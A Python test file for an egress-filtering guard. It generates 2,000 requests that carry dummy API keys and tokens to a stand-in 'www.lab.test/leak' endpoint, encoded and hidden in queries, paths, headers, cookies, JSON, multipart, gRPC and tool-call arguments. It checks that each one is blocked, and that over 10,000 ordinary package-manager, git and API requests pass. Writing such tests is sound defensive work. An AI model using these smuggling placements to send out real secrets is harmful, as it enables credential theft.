# SPDX-License-Identifier: Apache-2.0
"""With VETHGUARD_LONG=1 (`make check-exfiltration`): two thousand ways of sending a key are refused and told, and more than ten thousand
requests of package managers, git, registries of images and model APIs pass without a finding."""
import base64
import glob
import json
import os
import random
import unittest

from test_secrets import BINARY, ENCODINGS, GITHUB, JWT, PEM, Secrets

import support
from support import wait_until

LONG = os.environ.get("VETHGUARD_LONG") == "1"
CASES = 2000
SEED = int(os.environ.get("VETHGUARD_SEED", "27"))
MIXED = "x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dEuZ8gXoN2iMlP4wS7aKqC1yVtR9hBe"
HEX = "0f3a9c7e5b1d8642e7a09b3c5d1f6824"
KEYS = [GITHUB, PEM, b"AKIAIOSFODNN7QXM3PLZ", ("sk-ant-api03-" + MIXED).encode(), ("sk-proj-" + MIXED).encode(), b"xoxb-123456789012-1234567890123-" + MIXED[:24].encode(),
        ("glpat-" + MIXED[:20]).encode(), ("sk_live_" + MIXED[:24]).encode(), ("AIzaSyD" + MIXED[:33]).encode(), ("hvs." + MIXED[:40]).encode(),
        ("npm_" + MIXED[:36]).encode(), ("dop_v1_" + HEX * 2).encode(), JWT, ("shpat_" + HEX).encode(), ("ya29.a0" + MIXED).encode(),
        ("aws_secret_access_key=" + "wJalrXUtnFEMI/K7MDENG/bPxRfiCYKq3T9vLwZe").encode()]


def as_text(data):
    """As a byte string in a place that takes text alone."""
    return base64.b64encode(data)


def place_query(h, t): return f"fetch('www.lab.test', '/leak?a=1&d=' + {quoted(t)!r} + '&b=2')[0]"
def place_path(h, t): return f"fetch('www.lab.test', '/leak/' + {quoted(t).replace('/', '%2F')!r} + '/end')[0]"
def place_field(h, t): return f"fetch('www.lab.test', '/leak', fields=('X-Context: ' + {oneline(t)!r},))[0]"
def place_cookie(h, t): return f"fetch('www.lab.test', '/leak', fields=('Cookie: theme=dark; id=' + {oneline(t)!r},))[0]"
def place_json(h, t): return f"post('www.lab.test', '/leak', {json.dumps({'a': [1, {'note': t.decode('latin1')}]}).encode()!r}, 'Content-Type: application/json')"
def place_form(h, t): return f"post('www.lab.test', '/leak', {b'a=1&b=' + quoted(t, '+').encode() + b'&c=3'!r}, 'Content-Type: application/x-www-form-urlencoded')"
def place_raw(h, t): return f"post('www.lab.test', '/leak', {t!r}, 'Content-Type: application/octet-stream')"
def place_chunks(h, t): return f"chunked('www.lab.test', '/leak', {[t[i:i + 11] for i in range(0, len(t), 11)]!r})"
def place_frames(h, t): return f"frames('www.lab.test', {[t[:9], t[9:]]!r}, 2)"


def place_multipart(h, t):
    body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\n" + t + b"\r\n--b--\r\n"
    return f"post('www.lab.test', '/leak', {body!r}, 'Content-Type: multipart/form-data; boundary=b')"


def place_argument(h, t):
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "write_file", "arguments": {"path": "/tmp/a", "content": t.decode("latin1")}}}
    return f"post('www.lab.test', '/leak', {json.dumps(call).encode()!r}, 'Content-Type: application/json')"


def place_grpc(h, t):
    n, length = len(t), b""
    while n > 0x7f:
        length, n = length + bytes([n & 0x7f | 0x80]), n >> 7
    message = b"\x0a" + length + bytes([n]) + t
    body = b"\0" + len(message).to_bytes(4, "big") + message
    return f"post('www.lab.test', '/leak', {body!r}, 'Content-Type: application/grpc')"


def quoted(t, space="%20"):
    """Of text the signs of encodings stay as they are, as careless programs send them; of bytes none may: who decodes gets these again."""
    kept = "-_.~" + ("%+/" if all(c in b"\r\n" or 32 <= c < 127 for c in t) else "")
    return "".join(chr(c) if c < 128 and chr(c).isalnum() or chr(c) in kept else space if c == 32 else f"%{c:02X}" for c in t)


def oneline(t):
    return t.decode().replace("\n", " ")


TEXT_PLACES = [place_query, place_path, place_field, place_cookie]
BODY_PLACES = [place_json, place_form, place_raw, place_chunks, place_frames, place_multipart, place_argument, place_grpc]


@unittest.skipUnless(LONG, "make check-exfiltration")
class Exfiltration(Secrets):
    def test_two_thousand_ways(self):
        """A key, in up to two encodings, in a place: chosen at random (VETHGUARD_SEED). Places that encode by themselves count as one."""
        pick, box, cases = random.Random(SEED), self.box(), {}
        for i in range(CASES):
            key, names = pick.choice(KEYS), [pick.choice(list(ENCODINGS)) for _ in range(pick.randrange(3))]
            place = pick.choice(TEXT_PLACES + BODY_PLACES)
            text = key
            for name in names:
                text = ENCODINGS[name](text)
            if place in TEXT_PLACES and (set(names) & set(BINARY) or len(text) > 6000 or b"\n" in text):
                place = pick.choice(BODY_PLACES)
            if place in TEXT_PLACES and "json" in names:
                place = place_json
            if place == place_path and b"%0a" in text.lower():
                place = place_query  # no path has a line end
            if key == JWT and place == place_cookie:
                place = place_query  # a session's token may be in a cookie
            cases[f"{i} {key[:8]!r} {names} {place.__name__}"] = place(None, text)
        self.all_in_parts(box, cases)
        self.assertTrue(wait_until(lambda: len(self.findings(box)) == len(cases), 30 * support.SLOW), (len(self.findings(box)), len(cases)))
        print(f"refused and told: {len(cases)} of {len(cases)}")

    def all_in_parts(self, box, cases):
        names = list(cases)
        for at in range(0, len(names), 100):
            self.all_are(box, {n: cases[n] for n in names[at:at + 100]}, "403")


HONEST = """
import glob, gzip, json, os, re, hashlib, shutil, subprocess, sys, tarfile, tempfile, io
done = {}
class Line:
    def __init__(self, host):
        self.host, self.s = host, None
    def __call__(self, kind, method, path, body=None, *fields):
        if self.s is None:
            self.s = tls(self.host)
            self.r = Reader(self.s)
        if body is not None:
            fields += (f'Content-Length: {len(body)}',)
        self.s.sendall(request(method, path, self.host, *fields) + (body or b''))
        status = self.r.response()[0]
        done[kind] = done.get(kind, 0) + 1
        if status != 200:
            print('REFUSED', kind, status, method, path[:200], file=sys.stderr)
            done['refused'] = done.get('refused', 0) + 1
            self.s = None
ask = Line('www.lab.test')
apt = ('User-Agent: Debian APT-HTTP/1.3 (2.6.1)',)
known = subprocess.run(['apt-cache', 'dumpavail'], capture_output=True, text=True, errors='replace').stdout.splitlines()
names = [l.split(': ', 1)[1].strip() for l in known if l.startswith('Filename: ')]
for n in names[::max(1, len(names) // 4000)][:4000]:
    ask('apt', 'GET', '/debian/' + n.replace('+', '%2b').replace('~', '%7e'), None, *apt)
sums = [l.split(': ', 1)[1].strip() for l in known if l.startswith('SHA256: ')]
for h in sums[:500]:
    ask('apt by hash', 'GET', '/debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/' + h, None, *apt)
npm = ('User-Agent: npm/10.8.2 node/v20.19.0 linux x64 workspaces/false', 'npm-session: ' + hashlib.md5(b'1').hexdigest()[:16], 'Accept-Encoding: gzip,deflate,br')
packages = []
for f in sorted(glob.glob('/usr/lib/node_modules/**/package.json', recursive=True) + glob.glob('/opt/**/node_modules/*/package.json', recursive=True))[:3000]:
    try:
        p = json.load(open(f))
        packages.append((p['name'], p['version']))
    except (ValueError, KeyError, TypeError):
        pass
packages = sorted(set(packages))
for i in range(1200):
    if not packages:
        break
    n, v = packages[i % len(packages)]
    ask('npm', 'GET', '/' + n.replace('/', '%2f'), None, *npm, 'npm-command: install', 'Accept: application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*', 'pacote-integrity: sha512-' + __import__('base64').b64encode(hashlib.sha512(f'{n}{i}'.encode()).digest()).decode())
    ask('npm', 'GET', '/' + n + '/-/' + n.split('/')[-1] + '-' + v + '.tgz', None, *npm)
ask('npm', 'POST', '/-/npm/v1/security/advisories/bulk', gzip.compress(json.dumps({n: [v] for n, v in packages}).encode()), *npm, 'Content-Type: application/json', 'Content-Encoding: gzip')
pip = ('User-Agent: pip/24.0 {"ci":null,"cpu":"x86_64","distro":{"id":"bookworm","libc":{"lib":"glibc","version":"2.36"},"name":"Debian GNU/Linux","version":"12"},"implementation":{"name":"CPython","version":"3.11.2"},"installer":{"name":"pip","version":"24.0"},"openssl_version":"OpenSSL 3.0.16 11 Feb 2025","python":"3.11.2"}',)
import importlib.metadata
wheels = sorted({(d.metadata['Name'] or 'x', d.version) for d in importlib.metadata.distributions()})
for i in range(700):
    n, v = wheels[i % len(wheels)]
    h = hashlib.blake2b(f'{n}{i}'.encode(), digest_size=32).hexdigest()
    ask('pip', 'GET', f'/simple/{n.lower()}/', None, *pip, 'Accept: application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01')
    ask('pip', 'GET', f'/packages/{h[:2]}/{h[2:4]}/{h[4:]}/{n}-{v}-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl', None, *pip)
JWT = 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsIng1YyI6W119.eyJhY2Nlc3MiOltdfQ.' + 'q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA' * 7
layer = io.BytesIO()
with tarfile.open(fileobj=layer, mode='w:gz') as t:
    for f in sorted(glob.glob('/usr/bin/*'))[:400]:
        if os.path.isfile(f) and os.path.getsize(f) < 2000000:
            t.add(f, recursive=False)
layer = layer.getvalue()
for i in range(700):
    d = hashlib.sha256(f'{i}'.encode()).hexdigest()
    docker = ('User-Agent: docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.1.0 os/linux arch/amd64', 'Authorization: Bearer ' + JWT)
    ask('docker', 'HEAD' if False else 'GET', f'/v2/library/debian/manifests/sha256:{d}', None, *docker, 'Accept: application/vnd.oci.image.index.v1+json')
    ask('docker', 'GET', f'/v2/library/debian/blobs/sha256:{d}', None, *docker)
state = __import__('base64').urlsafe_b64encode(json.dumps({'Name': 'a/b', 'UUID': '550e8400-e29b-41d4-a716-446655440000', 'Offset': 0, 'StartedAt': '2026-11-26T10:00:00Z'}).encode() + hashlib.sha256(b'x').digest()).decode()
for at in range(0, min(len(layer), 64 << 20), 512 << 10):
    ask('docker layers', 'PATCH', '/v2/a/b/blobs/uploads/550e8400-e29b-41d4-a716-446655440000?_state=' + state, layer[at:at + (512 << 10)], *docker, 'Content-Type: application/octet-stream')
root = TREE
git = ('User-Agent: git/2.39.5', 'Git-Protocol: version=2')
commits = subprocess.run(['git', '-c', 'safe.directory=*', '-C', root, 'rev-list', '--all', '-n', '1000'], capture_output=True, text=True).stdout.split()
for i, c in enumerate(commits or [hashlib.sha1(str(i).encode()).hexdigest() for i in range(1000)]):
    ask('git', 'GET', '/acme/site.git/info/refs?service=git-upload-pack', None, *git)
    want = f'0011command=fetch0001000fno-progress0032want {c}\\n0032have {c}\\n0009done\\n0000'.encode()
    ask('git', 'POST', '/acme/site.git/git-upload-pack', gzip.compress(want) if i % 2 else want, *git, 'Content-Type: application/x-git-upload-pack-request', *(('Content-Encoding: gzip',) if i % 2 else ()))
repository = tempfile.mkdtemp()  # without samples of keys
for c in (['init', '-q'], ['add', '-f', '.'], ['-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '-m', 'a']):
    subprocess.run(['git', '-c', 'safe.directory=*', '--git-dir=' + repository, '--work-tree=/usr/include', *c], capture_output=True)
pack = subprocess.run(['git', '-c', 'safe.directory=*', '--git-dir=' + repository, 'pack-objects', '--stdout', '--all'], input=b'', capture_output=True).stdout[:16 << 20]
shutil.rmtree(repository)
for at in range(0, len(pack), 512 << 10):
    ask('git push', 'POST', '/acme/site.git/git-receive-pack', pack[at:at + (512 << 10)], *git)
code = sorted(glob.glob(root + '/src/**/*.[ch]', recursive=True) + glob.glob(root + '/mk/*') + glob.glob('/usr/lib/python3.11/*.py') + glob.glob('/usr/share/doc/*/copyright'))
for i, f in enumerate(code[::max(1, len(code) // 400)]):
    text = open(f, errors='replace').read()[:200000]
    body = {'model': 'm', 'max_tokens': 1024, 'stream': True, 'metadata': {'user_id': 'user_' + hashlib.sha256(b'u').hexdigest() + '_account__session_550e8400-e29b-41d4-a716-446655440000'},
            'messages': [{'role': 'user', 'content': [{'type': 'text', 'text': text}, {'type': 'tool_result', 'tool_use_id': 'toolu_01A09q90qw90lq917835lq9', 'content': f}]}]}
    ask('models', 'POST', '/v1/messages', json.dumps(body).encode(), 'Content-Type: application/json', 'anthropic-version: 2023-06-01', 'x-stainless-lang: js')
print(json.dumps(done))
"""


@unittest.skipUnless(LONG, "make check-exfiltration")
class Honest(Secrets):
    def test_ten_thousand_requests(self):
        box = self.box()
        tree = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        out = box.py(HONEST.replace("TREE", repr(tree)), timeout=1200)
        done = json.loads(out.out.splitlines()[-1])
        print(done, sum(done.values()))
        self.assertEqual(done.pop("refused", 0), 0, out.err)
        self.assertGreater(sum(done.values()), 10000)
        self.assertEqual([e["finding_info"]["desc"] for e in self.findings(box)], [])


if __name__ == "__main__":
    unittest.main()
